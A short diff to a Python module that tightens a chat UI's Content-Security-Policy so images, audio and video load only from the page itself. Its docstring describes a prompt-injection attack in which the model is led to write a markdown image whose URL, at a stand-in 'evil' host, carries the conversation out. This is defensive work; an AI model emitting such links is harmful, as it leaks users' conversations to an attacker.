@@ -1,4 +1,4 @@
-"""The UI's Content-Security-Policy: the page loads images only from itself. A reply is markdown the model wrote, and
+"""The UI's Content-Security-Policy: the page loads images (and audio, video) only from itself. A reply is markdown the model wrote, and
 a prompt injection can make it write an image whose URL carries the conversation (`![](https://evil/?q=...)`): with
 remote images blocked, the browser never requests it. Nothing else is restricted (Gradio's scripts and styles stay
 as they are)."""
@@ -6,7 +6,7 @@ from __future__ import annotations
 
 from starlette.middleware import Middleware
 
-POLICY = b"img-src 'self' data: blob:"
+POLICY = b"img-src 'self' data: blob:; media-src 'self' data: blob:"
 
 
 class ImagesFromHereOnly:
